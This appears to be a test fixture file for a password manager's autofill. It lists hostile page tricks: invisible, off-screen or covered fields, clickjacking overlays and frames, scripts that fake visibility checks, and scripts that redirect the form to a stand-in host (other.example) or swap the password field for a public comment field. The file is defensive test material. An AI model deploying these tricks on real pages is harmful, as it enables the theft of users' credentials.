/* What a page, or what others put into it, can try. */

const fields = '<input data-for="user-name" name="user"><input data-for="password" type="password">';
const form = `<form>${fields}</form>`;
const overlay = 'position: absolute; left: 0; top: 0; width: 600px; height: 400px;';

/** A page whose fields a person doesn't see. None of them is filled. */
export const hidingPages: readonly [name: string, html: string][] = [
  ['transparent fields', `<style>input { opacity: 0 }</style>${form}`],
  ['almost transparent fields', `<style>input { opacity: 0.05 }</style>${form}`],
  ['fields in something transparent', `<div style="opacity: 0">${form}</div>`],
  ['half-transparent layers, one in another', `${'<div style="opacity: 0.5">'.repeat(4)}${form}`],
  ['a filter that makes transparent', `<div style="filter: opacity(0%)">${form}</div>`],
  ['fields that are not visible', `<style>input { visibility: hidden }</style>${form}`],
  ['fields left of the window', `<form style="position: absolute; left: -5000px">${fields}</form>`],
  ['fields below the window', `<div style="height: 3000px"></div>${form}`],
  ['tiny fields', `<style>input { width: 1px; height: 1px; padding: 0; border: 0 }</style>${form}`],
  ['fields scaled to nothing', `<form style="transform: scale(0.01)">${fields}</form>`],
  ['clipped fields', `<style>input { clip-path: inset(50%) }</style>${form}`],
  ['masked fields', `<form style="mask-image: linear-gradient(transparent, transparent)">${fields}</form>`],
  ['fields in a box without size', `<div style="width: 0; height: 0; overflow: hidden">${form}</div>`],
  [
    'fields behind the page',
    `<div style="${overlay} background: white"></div><form style="position: relative; z-index: -1">${fields}</form>`,
  ],
  ['a layer on the fields', `${form}<div style="${overlay} background: white">You have won</div>`],
  ['a clear layer on the fields, which takes the clicks', `${form}<div style="${overlay}"></div>`],
  [
    'a layer that lets clicks through',
    `${form}<div style="${overlay} background: white; pointer-events: none">You have won</div>`,
  ],
  ['a picture that lets clicks through', `${form}<img alt="" style="${overlay} pointer-events: none">`],
  [
    'another site’s frame on the fields',
    `${form}<iframe src="//other.example:PORT/inner" style="${overlay}"></iframe>`,
  ],
  [
    'a popover on the fields',
    `${form}<div popover style="width: 100vw; height: 100vh">Cookies?</div><script>document.querySelector('[popover]').showPopover()</script>`,
  ],
  [
    'fields whose form answers for its ancestors',
    `<div style="opacity: 0">${form.replace('<form>', '<form><input type="hidden" name="parentElement"><input type="hidden" name="assignedSlot"><input type="hidden" name="matches"><img alt="" name="elementFromPoint"><img alt="" name="activeElement"><img alt="" name="baseURI">')}</div>`,
  ],
  [
    'fields whose page lies about them',
    `<style>input { position: absolute; left: -5000px }</style>${form}<script>
      const box = new DOMRect(20, 20, 200, 30);
      Element.prototype.getBoundingClientRect = () => box;
      Element.prototype.checkVisibility = () => true;
      document.elementFromPoint = () => document.querySelector('[data-for=password]');
      getComputedStyle = () => ({ opacity: '1', filter: 'none', pointerEvents: 'auto', maskImage: 'none' });
      Array.prototype.filter = function () { return []; };</script>`,
  ],
];

/** What changes between the choice and the fill, as a script in the page. Nothing is filled. */
export const laterChanges: readonly [name: string, script: string, because: string][] = [
  [
    'covers the fields',
    `document.body.insertAdjacentHTML('beforeend', '<div style="${overlay} background: white"></div>');`,
    'hidden-field',
  ],
  [
    'covers them with a layer that lets clicks through',
    `document.body.insertAdjacentHTML('beforeend', '<div style="${overlay} background: white; pointer-events: none"></div>');`,
    'hidden-field',
  ],
  [
    'covers them with a frame',
    `document.body.insertAdjacentHTML('beforeend', '<iframe style="${overlay}"></iframe>');`,
    'hidden-field',
  ],
  ['makes them transparent', `document.querySelector('form').style.opacity = 0;`, 'hidden-field'],
  [
    'moves them',
    `document.querySelector('form').style.cssText = 'position: absolute; left: 400px; top: 300px';`,
    'no-field',
  ],
  [
    'makes them smaller',
    `for (const field of document.querySelectorAll('input')) field.style.width = '30px';`,
    'no-field',
  ],
  [
    'puts others in their place',
    `document.querySelector('form').innerHTML = document.querySelector('form').innerHTML;`,
    'no-field',
  ],
  [
    'makes them fields of another kind',
    `for (const field of document.querySelectorAll('input')) field.type = 'search';`,
    'no-field',
  ],
  [
    'gives them other labels',
    `for (const field of document.querySelectorAll('input')) field.placeholder = 'Comment for everybody';`,
    'no-field',
  ],
  [
    'locks them',
    `for (const field of document.querySelectorAll('input')) field.readOnly = true;`,
    'no-field',
  ],
  [
    'sends the form to another site',
    `document.querySelector('form').action = 'https://other.example/';`,
    'no-field',
  ],
  ['hides them from the page', `document.querySelector('form').remove();`, 'no-field'],
];

/** What the page's own code does while the user name is written. The password is not written then. */
export const reactions: readonly [name: string, script: string][] = [
  [
    'puts another field in the place of the password’s',
    `const old = document.querySelector('[data-for=password]'); old.replaceWith(old.cloneNode());`,
  ],
  [
    'covers the password’s field',
    `document.body.insertAdjacentHTML('beforeend', '<div style="${overlay} background: white"></div>');`,
  ],
  [
    'makes the password’s field a visible text',
    `document.querySelector('[data-for=password]').type = 'text';`,
  ],
  [
    'calls a comment’s field a password, and the password’s a comment',
    `const [, password, comment] = document.querySelectorAll('input');
     Object.assign(password, { type: 'text', placeholder: 'Comment' });
     Object.assign(comment, { type: 'password', name: 'password', placeholder: '' });`,
  ],
  [
    'removes the password’s field and calls a comment’s a password',
    `const [, password, comment] = document.querySelectorAll('input');
     password.remove();
     Object.assign(comment, { type: 'password', name: 'password', placeholder: '' });`,
  ],
  ['sends the form to another site', `document.querySelector('form').action = 'https://other.example/';`],
  [
    'sends the form to another site by its button',
    `document.querySelector('form').insertAdjacentHTML('beforeend', '<button formaction="https://other.example/">Go</button>');`,
  ],
  [
    'sends the form to another site by its base',
    `document.head.insertAdjacentHTML('beforeend', '<base href="https://other.example/">');`,
  ],
  ['puts the form’s values into its address', `document.querySelector('form').method = 'get';`],
  [
    'gives the password’s field to another form',
    `document.body.insertAdjacentHTML('beforeend', '<form id="b" action="https://other.example/"></form>');
     document.querySelector('[data-for=password]').setAttribute('form', 'b');`,
  ],
  [
    'moves a hidden field into view, in the place of the password’s',
    `const password = document.querySelector('[data-for=password]');
     password.style.position = 'absolute';
     password.style.left = '-5000px';
     const hidden = document.querySelector('[name=hidden]');
     hidden.style.left = '400px';`,
  ],
  [
    'calls the password’s field a comment',
    `document.querySelector('[data-for=password]').setAttribute('aria-label', 'Comment for everybody');`,
  ],
  [
    'moves the password’s field aside',
    `document.querySelector('[data-for=password]').style.marginLeft = '300px';`,
  ],
  [
    'moves the password’s field far down',
    `document.querySelector('[data-for=password]').style.marginTop = '300px';`,
  ],
  [
    'lets the password’s field be a text when it is entered',
    `document.querySelector('[data-for=password]').addEventListener('focus', ({ target }) => { target.type = 'text'; });`,
  ],
  [
    'covers the password’s field when it is entered',
    `document.querySelector('[data-for=password]').addEventListener('focus', () => {
       document.body.insertAdjacentHTML('beforeend', '<div style="${overlay} background: white"></div>');
     });`,
  ],
  [
    'puts a comment’s field in the place of the password’s when it is entered',
    `document.querySelector('[data-for=password]').addEventListener('focus', ({ target }) => {
       const comment = document.createElement('input');
       comment.placeholder = 'Comment for everybody';
       target.replaceWith(comment);
       comment.focus();
     });`,
  ],
  [
    'sends the form to another site when the password’s field is entered',
    `document.querySelector('[data-for=password]').addEventListener('focus', () => { document.querySelector('form').action = 'https://other.example/'; });`,
  ],
];

/** The page of these reactions, with other fields that a person would not take for a password’s. */
export const signInBesideComment = `<form>${fields}</form><input placeholder="Comment" name="comment" style="margin-top: 60px"><input name="hidden" type="password" style="position: absolute; left: -5000px; top: 60px">`;

export const signIn = form;
